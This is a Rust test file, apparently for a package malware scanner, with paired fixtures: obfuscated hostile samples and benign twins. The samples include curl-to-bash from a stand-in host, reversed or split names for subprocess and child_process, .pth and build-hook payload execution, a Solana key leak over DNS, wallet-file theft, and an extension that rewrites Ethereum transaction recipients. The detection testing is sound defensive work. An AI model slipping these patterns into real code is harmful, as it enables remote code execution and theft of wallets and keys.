//! Words that are taken apart, turned around, shifted or packed, and conduct that lies over several files; with honest twins.
//! All inert, as in `make`.

use crate::{
    assert_calm, assert_seen,
    checks::Case,
    conduct::{app, extension, js, py, sh, text, wheel},
    make::{NODE, npm, tgz, zip},
    make_code::{class, jar},
};

/// A list of numbers that says a text by a code.
fn numbers(text: &str, code: impl Fn(u32) -> u32) -> String {
    let numbers: Vec<String> = text.bytes().map(|byte| code(u32::from(byte)).to_string()).collect();
    numbers.join(",")
}

const ADDRESS: &str = "https://a.invalid/x";
const PAGES: &str = r#"{"manifest_version":3,"name":"x","version":"1","content_scripts":[{"matches":["<all_urls>"],"js":["c.js"]}],"background":{"service_worker":"b.js"}}"#;
const PACKED: &str = "eNrtwTEBAAAAwqD1T20ND6AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

fn carried(start: &str) -> String {
    // Packed noise in base64, as a build would carry a program.
    let noise = crate::make::noise(900, 9);
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut packer, &noise).unwrap();
    format!(
        "import base64, zlib, os\nP = '{}'\nopen(f, 'wb').write(zlib.decompress(base64.b64decode(P)))\n{start}",
        crate::make::base64(&packer.finish().unwrap())
    )
}

fn sdist(body: &str) -> Vec<u8> {
    let settings = "[build-system]\nbuild-backend = \"hooks\"\nbackend-path = [\"_build\"]\n";
    tgz(&[
        text("x-1/PKG-INFO", "Metadata-Version: 2.1\nName: x\nVersion: 1\n"),
        text("x-1/pyproject.toml", settings),
        py("x-1/_build/hooks.py", "from . import parts_\nparts_.go()\n"),
        py("x-1/_build/parts_.py", body),
    ])
}

pub(crate) fn cases() -> Vec<Case> {
    vec![
        (
            "D89",
            zip(&[js("x/a.js", "module['req'+'uire']('ht'+'tps').get(u,r=>show(r))")]),
            zip(&[js("x/a.js", "require('https').get('https://'+'a.invalid/'+name,r=>show(r))")]),
        ),
        (
            "D90",
            npm("", &[
                ("index.js", "const f=k.Keypair.fromSecretKey;k.Keypair.fromSecretKey=function(){t.mark(arguments[0]);return f.apply(this, arguments)}"),
                ("t.js", "require('dns').resolveTxt(h(k)+'.a.invalid',()=>{})"),
            ]),
            npm("", &[
                ("index.js", "exports.open=b=>Keypair.fromSecretKey(b);exports.pay=(t,k)=>t.signTransaction(k)"),
                ("t.js", "require('dns').resolveTxt('a.invalid',()=>{})"),
            ]),
        ),
        (
            "D91",
            sdist(&carried("os.chmod(f, 0o755)\nimport subprocess\nsubprocess.Popen([f])\n")),
            sdist("import subprocess\nsubprocess.run(['cc', '-o', 'x', 'x.c'])\n"),
        ),
        (
            "G80",
            jar("Main-Class: x.Main\n", &[
                ("x/Main.class", class(&["x/Main", "javax/script/ScriptEngineManager", "/x/messages_xx.properties"])),
                ("x/messages_xx.properties", format!("{NODE}var P = Java.type('java.lang.ProcessBuilder');\nvar U = Java.type('java.net.URL');\n").into_bytes()),
            ]),
            jar("Main-Class: x.Main\n", &[
                ("x/Main.class", class(&["x/Main", "javax/script/ScriptEngineManager", "/x/messages_xx.properties"])),
                ("x/messages_xx.properties", b"title=Process\naddress=https://a.invalid/\nfunction=Function\n".to_vec()),
            ]),
        ),
    ]
}

fn shapes() -> Vec<(&'static str, Vec<u8>)> {
    let one = |name: &'static str, body: &str| zip(&[js(name, body)]);
    let python = |body: &str| zip(&[py("x/a.py", body)]);
    let vb = |body: &str| zip(&[text("x/a.vbs", &format!("WScript.Quit 0\n{body}\n"))]);
    let shifted = numbers(ADDRESS, |byte| byte + 3);
    let mixed = numbers(ADDRESS, |byte| byte ^ 65);
    vec![
        (
            "shifted numbers and a module backwards",
            wheel(&[py(
                "x/t.py",
                &format!("D = ({shifted})\ng = lambda s: __import__(s[::-1])\ng('tseuqer.' 'billru')\n"),
            )]),
        ),
        (
            "a palette in one file, its use in another",
            app(&[
                ("node_modules/c/env.js", &format!("exports.p=[{mixed}]")),
                (
                    "node_modules/c/s.js",
                    "const n=(a,k)=>a.map(c=>String.fromCharCode(c^k)).join('');net.fetch(n(p,k))",
                ),
            ]),
        ),
        (
            "a table of builtins",
            python("import urllib.request\n__builtins__['ex' + 'ec'](urllib.request.urlopen(u).read())\n"),
        ),
        ("names of attributes in pieces", python("getattr(__import__('sub' 'process'), 'Po' 'pen')([t])\n")),
        (
            "names that stand for pieces",
            one("x/a.js", "const a='chi',b='ld_pro';require(a+b+'cess').exec(c)"),
        ),
        (
            "letters that are taken out again",
            one("x/a.js", "const m='ch#ild#_pro#cess'.replace(/#/g,'');module[r](m).spawn(c)"),
        ),
        ("rot13", python("import codecs\n__import__(codecs.decode('fhocebprff', 'rot13'))\n")),
        (
            "letters that are one further",
            python("m = ''.join(chr(ord(c) - 1) for c in 'tvcqspdftt')\n__import__(m)\n"),
        ),
        ("an address that is packed", one("x/a.js", "fetch(z(atob('eJzLKCkpsNLXT9TLzCtLzMlMAQAwjwXP')))")),
        ("StrReverse", vb("CreateObject(StrReverse(\"llehS.tpircSW\")).Run c")),
        ("letters by their numbers", vb("CreateObject(\"WScr\" & Chr(105) & \"pt.Shell\").Run c")),
        (
            "an address backwards",
            vb("g.Open \"GET\", StrReverse(\"x/dilavni.a//:sptth\"), False : CreateObject(n).Run p"),
        ),
        (
            "places of keys in pieces",
            wheel(&[
                py("x/t.py", "r = ('.con' 'fig/sol' 'ana/id.json', 'Exo' 'dus/exo' 'dus.wal' 'let')\n"),
                py("x/u.py", "import requests\nrequests.put(u, data=b)\n"),
            ]),
        ),
        (
            "quotes inside the words of a shell",
            tgz(&[sh(
                "x/run.sh",
                "cu''rl -s https://a.invalid/x | ba\"\"sh\nexport LD_PRE\"LOAD\"=$HERE/l.so\n",
            )]),
        ),
        (
            "rot47 in a shell",
            tgz(&[sh("x/AppRun", "d=$(printf %s ]4@?7:8^2FE@DE2CE | tr '!-~' 'P-~!-O')\ncp x $HOME/$d\n")]),
        ),
        (
            "a page from a server with rights of Node",
            app(&[
                (
                    "main.js",
                    "const w=new BrowserWindow({webPreferences:{nodeIntegration:true,contextIsolation:false}});w.loadFile('index.html')",
                ),
                (
                    "index.html",
                    "<!doctype html><html><script src=\"https://a.invalid/t.js\"></script></html>",
                ),
            ]),
        ),
        (
            "an extension that changes transactions",
            extension(
                PAGES,
                &[
                    js(
                        "c.js",
                        "const o=window.ethereum;window.ethereum=new Proxy(o,{get:(t,k)=>k!=='request'?t[k]:q=>{if(q.method==='eth_sendTransaction')q.params[0].to=document.body.dataset.r;return t.request(q)}})",
                    ),
                    js("b.js", "fetch('https://a.invalid/r').then(keep)"),
                ],
            ),
        ),
        (
            "an extension with a shifted address",
            extension(
                PAGES,
                &[
                    js("c.js", "show()"),
                    js(
                        "b.js",
                        &format!("const U=[{shifted}].map(c=>String.fromCharCode(c-3)).join('');fetch(U)"),
                    ),
                ],
            ),
        ),
        (
            "a provider of Java with names backwards",
            jar(
                "Main-Class: x.Main\n",
                &[(
                    "x/P.class",
                    class(&[
                        "x/P",
                        "java/lang/Class",
                        "forName",
                        "java/lang/StringBuilder",
                        "reverse",
                        "emitnuR.gnal.avaj",
                        "cexe",
                    ]),
                )],
            ),
        ),
        (
            "a path file that calls",
            wheel(&[
                text("x.pth", "import sys; __import__('importlib').import_module('x.t')\n"),
                py(
                    "x/t.py",
                    "import urllib.request, subprocess\nsubprocess.run(urllib.request.urlopen(u).read())\n",
                ),
            ]),
        ),
        (
            "a module for every start of Python among the data",
            wheel(&[py("x-1.data/data/lib/sitecustomize.py", "import x.t\n"), py("x/t.py", "print(1)\n")]),
        ),
        (
            "hooks of an AppDir",
            tgz(&[
                sh("X.AppDir/AppRun", "for h in $HERE/apprun-hooks/*.sh; do . $h; done\n"),
                sh(
                    "X.AppDir/apprun-hooks/gtk.sh",
                    "printf 'X-GNOME-Autostart-enabled=true' > $d/x.desktop\nchmod 0700 $l\npython3 -c 'import urllib.request as q;q.urlopen(u)' &\n",
                ),
            ]),
        ),
    ]
}

fn honest() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (
            "long sentences over lines",
            zip(&[py(
                "x/a.py",
                "import requests\nraise ValueError('the process could not be '\n  'started: see https://a.invalid/help '\n  'for the system')\n",
            )]),
        ),
        (
            "numbers that are data",
            zip(&[js(
                "x/a.js",
                "const t=[104,116,116,112,1,2,3];const c=[0,7,14,9,5,200,31,77];fetch('https://a.invalid/'+t[0])",
            )]),
        ),
        (
            "words turned around for palindromes",
            zip(&[py(
                "x/a.py",
                "def palindrome(w): return w == w[::-1]\nprint(palindrome('level'), palindrome('subway'))\n",
            )]),
        ),
        (
            "a picture in base64",
            zip(&[js(
                "x/a.js",
                &format!("const i='data:image/png;base64,{PACKED}';fetch('https://a.invalid/i').then(show)"),
            )]),
        ),
        (
            "quotes of a shell",
            tgz(&[sh("x/a.sh", "echo \"it's $HOME\"'/'\"bin\"\nprintf '%s\\n' \"don't\"\n")]),
        ),
        (
            "a provider for pages",
            extension(
                PAGES,
                &[
                    js(
                        "c.js",
                        "window.x={request:a=>post(a),isX:true};window.dispatchEvent(new CustomEvent('eip6963:announceProvider',{detail}))",
                    ),
                    js(
                        "b.js",
                        "onMessage(async m=>{if(m.method==='eth_sendTransaction'&&await ask(m.params[0]))return fetch('https://rpc.x.invalid',{method:'POST',body:m})})",
                    ),
                ],
            ),
        ),
        (
            "a program that shows its own page",
            app(&[
                (
                    "main.js",
                    "const w=new BrowserWindow({webPreferences:{contextIsolation:true,sandbox:true}});w.loadFile('index.html')",
                ),
                (
                    "index.html",
                    "<!doctype html><html><script src=\"https://js.x.invalid/pay.js\"></script></html>",
                ),
            ]),
        ),
        (
            "an AppDir",
            tgz(&[
                sh(
                    "X.AppDir/AppRun",
                    "HERE=$(dirname \"$(readlink -f \"$0\")\")\nfor h in $HERE/apprun-hooks/*.sh; do . $h; done\nexec \"$HERE/usr/bin/x\" \"$@\"\n",
                ),
                sh("X.AppDir/apprun-hooks/gtk.sh", "export GTK_THEME=Adwaita\nexport GDK_BACKEND=x11\n"),
            ]),
        ),
        (
            "a build of its own",
            sdist("from setuptools.build_meta import *\nimport subprocess\nsubprocess.run(['make'])\n"),
        ),
        (
            "messages of Basic",
            zip(&[text("x/a.vbs", "WScript.Quit 0\nMsgBox \"Done\" & Chr(33) & vbCrLf & \"Bye\"\n")]),
        ),
        (
            "a decorator",
            zip(&[py(
                "x/a.py",
                "import functools, requests\ndef timed(f):\n  @functools.wraps(f)\n  def g(*args, **kw): return f(*args, **kw)\n  return g\n",
            )]),
        ),
    ]
}

#[test]
fn hidden_words_are_seen() {
    assert_seen(shapes());
}

#[test]
fn honest_words_are_calm() {
    assert_calm(honest());
}
